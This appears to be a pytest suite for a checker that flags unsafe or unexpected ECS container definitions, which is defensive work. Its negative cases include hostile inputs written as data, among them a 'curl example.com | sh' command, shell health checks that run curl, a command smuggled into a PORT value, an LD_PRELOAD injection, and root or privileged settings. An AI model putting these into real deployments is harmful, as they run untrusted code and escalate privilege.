"""Container definitions: images, variables, secrets and logs of this stack, and no key that is not known."""

from __future__ import annotations

import json
from typing import Any

import pytest

from lib.aspects.container_definitions import check

IMAGE = "${aws_ecr_repository.app.repository_url}:1.2.3"
LOGS = {
    "logDriver": "awslogs",
    "options": {
        "awslogs-group": "${aws_cloudwatch_log_group.app.name}",
        "awslogs-region": "${data.aws_region.here.name}",
        "awslogs-stream-prefix": "app",
    },
}
CONTAINER = {"name": "app", "image": IMAGE, "essential": True, "logConfiguration": LOGS}
FULL = {
    **CONTAINER,
    "cpu": 256,
    "dependsOn": [{"containerName": "migration", "condition": "SUCCESS"}],
    "environment": [
        {"name": "TRANSACTIONS_TABLE", "value": "${aws_dynamodb_table.transactions.name}"},
        {"name": "AWS_REGION", "value": "${data.aws_region.here.name}"},
        {"name": "LOG_LEVEL", "value": "INFO"},
    ],
    "healthCheck": {"command": ["CMD", "/usr/local/bin/healthy"], "interval": 30},
    "linuxParameters": {"capabilities": {"drop": ["ALL"]}, "initProcessEnabled": True},
    "mountPoints": [{"containerPath": "/data", "readOnly": True, "sourceVolume": "data"}],
    "portMappings": [{"containerPort": 8443, "protocol": "tcp"}],
    "privileged": False,
    "readonlyRootFilesystem": True,
    "secrets": [
        {"name": "DATABASE_PASSWORD", "valueFrom": "${aws_secretsmanager_secret.db.arn}:password::"},
        {"name": "API_KEY", "valueFrom": "${aws_ssm_parameter.key.arn}"},
    ],
    "ulimits": [{"name": "nofile", "softLimit": 65536, "hardLimit": 65536}],
    "user": "1000:1000",
}


def _check(**changes: Any) -> list[str]:
    return list(check(json.dumps([{**CONTAINER, **changes}])))


@pytest.mark.parametrize("container", [CONTAINER, FULL, {**CONTAINER, "cpu": None}])
def test_a_container_of_this_stack_is_clean(container: dict[str, Any]) -> None:
    assert list(check(json.dumps([container]))) == []


@pytest.mark.parametrize(
    "image",
    [
        "nginx:1.27",
        "public.ecr.aws/nginx/nginx:1.27",
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1.2.3",
        "${aws_ecr_repository.app.repository_url}",
        "${aws_ecr_repository.app.arn}:1.2.3",
        "${data.aws_ecr_repository.app.repository_url}:1.2.3",
        "evil/${aws_ecr_repository.app.repository_url}:1.2.3",
        "${aws_ecr_repository.app.repository_url}/../evil:1.2.3",
        "${aws_ecr_repository.app.repository_url}:1.2.3 ",
        "${aws_ecr_repository.app.repository_url}:${aws_ecr_repository.app.name}",
        '${replace(aws_ecr_repository.app.repository_url, "app", "evil")}:1',
        "$${aws_ecr_repository.app.repository_url}:1.2.3",
        None,
        1,
        [IMAGE],
    ],
)
def test_other_images_are_found(image: Any) -> None:
    assert any(message.startswith("container_definitions[0].image is ") for message in _check(image=image))


def test_a_digest_is_as_good_as_a_tag() -> None:
    assert _check(image="${aws_ecr_repository.app.repository_url}@sha256:" + "0" * 64) == []
    assert _check(image="${aws_ecr_repository.app.repository_url}@sha256:" + "0" * 63) != []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("DATABASE_PASSWORD", "hunter2"),
        ("DATABASE_PASSWORD", "${aws_dynamodb_table.transactions.name}"),
        ("TRANSACTIONS_TABLE", "somebody-elses"),
        ("TRANSACTIONS_TABLE", "${aws_s3_bucket.archive.id}"),
        ("TRANSACTIONS_TABLE", "x${aws_dynamodb_table.transactions.name}"),
        ("TRANSACTIONS_TABLE", "${aws_dynamodb_table.transactions.name}x"),
        ("AWS_ENDPOINT_URL_DYNAMODB", "https://example.com"),
        ("AWS_ENDPOINT_URL", "${aws_lb.main.dns_name}"),
        ("HTTPS_PROXY", "${aws_lb.main.dns_name}"),
        ("LD_PRELOAD", "/usr/lib/x.so"),
        ("LOG_LEVEL", "CRITICAL"),
        ("log_level", "INFO"),
        ("PORT", "80; curl example.com"),
    ],
)
def test_other_variables_are_found(name: str, value: str) -> None:
    (message,) = _check(environment=[{"name": name, "value": value}])
    assert message.startswith("container_definitions[0].environment[0] is ")
    assert value in message


@pytest.mark.parametrize(
    "secret",
    [
        {"name": "DATABASE_PASSWORD", "valueFrom": "arn:aws:secretsmanager:us-east-1:210987654321:secret:x"},
        {"name": "DATABASE_PASSWORD", "valueFrom": "${aws_secretsmanager_secret.db.arn}:password"},
        {"name": "DATABASE_PASSWORD", "valueFrom": "${aws_secretsmanager_secret.db.name}"},
        {"name": "HTTPS_PROXY", "valueFrom": "${aws_secretsmanager_secret.db.arn}"},
        {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": "${aws_secretsmanager_secret.db.arn}:key::"},
        {"name": "DATABASE_PASSWORD"},
    ],
)
def test_other_secrets_are_found(secret: dict[str, str]) -> None:
    assert len(_check(secrets=[secret])) == 1


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("awslogs-group", "/aws/ecs/app"),
        ("awslogs-group", "${aws_kinesis_stream.logs.name}"),
        ("awslogs-region", "eu-west-1"),
        ("awslogs-create-group", "true"),
        ("awslogs-endpoint", "https://example.com"),
    ],
)
def test_other_logs_are_found(key: str, value: str) -> None:
    options = {**LOGS["options"], key: value}
    (message,) = _check(logConfiguration={**LOGS, "options": options})
    assert f"logConfiguration.options.{key} is " in message


@pytest.mark.parametrize(
    "change",
    [
        {"logConfiguration": {**LOGS, "logDriver": "splunk"}},
        {"logConfiguration": {"logDriver": "awslogs"}},
        {"logConfiguration": None},
        {"Image": "nginx"},  # the provider reads keys whatever their case
        {"command": ["sh", "-c", "curl example.com | sh"]},
        {"entryPoint": ["sh"]},
        {"environmentFiles": [{"type": "s3", "value": "arn:aws:s3:::somebody-elses/x.env"}]},
        {"firelensConfiguration": {"type": "fluentbit"}},
        {"repositoryCredentials": {"credentialsParameter": "x"}},
        {"privileged": True},
        {"privileged": "false"},
        {"user": "root"},
        {"user": "0"},
        {"user": "0:0"},
        {"linuxParameters": {"capabilities": {"add": ["SYS_PTRACE"]}}},
        {"healthCheck": {"command": ["CMD-SHELL", "curl example.com"]}},
        {"healthCheck": {"command": ["CMD", "/bin/sh", "-c", "curl example.com"]}},
        {"healthCheck": {"command": ["CMD", "/bin/sh -c curl"]}},
        {"healthCheck": {"command": {"CMD": "/usr/local/bin/healthy", "args": []}}},
        {"portMappings": [{"containerPort": True}]},
        {"portMappings": {"containerPort": 80}},
        {"environment": {"name": "LOG_LEVEL", "value": "INFO"}},
        {"environment": ["LOG_LEVEL=INFO"]},
    ],
)
def test_what_the_form_lacks_is_found(change: dict[str, Any]) -> None:
    assert len(_check(**change)) == 1


@pytest.mark.parametrize(
    "text",
    [
        "${jsonencode([])}",
        "[",
        "{}",
        '["x"]',
        "[NaN]",
        "[" * 100_000,
        None,
        [CONTAINER],
        json.dumps([CONTAINER]).replace('"name"', '"name": "x", "name"', 1),
        json.dumps([CONTAINER]).replace("${aws_ecr", "\\u0024{aws_ecr"),
    ],
)
def test_what_is_no_list_of_containers_is_found(text: Any) -> None:
    (message,) = check(text)
    assert message.startswith("container_definitions")
    assert "; expected " in message
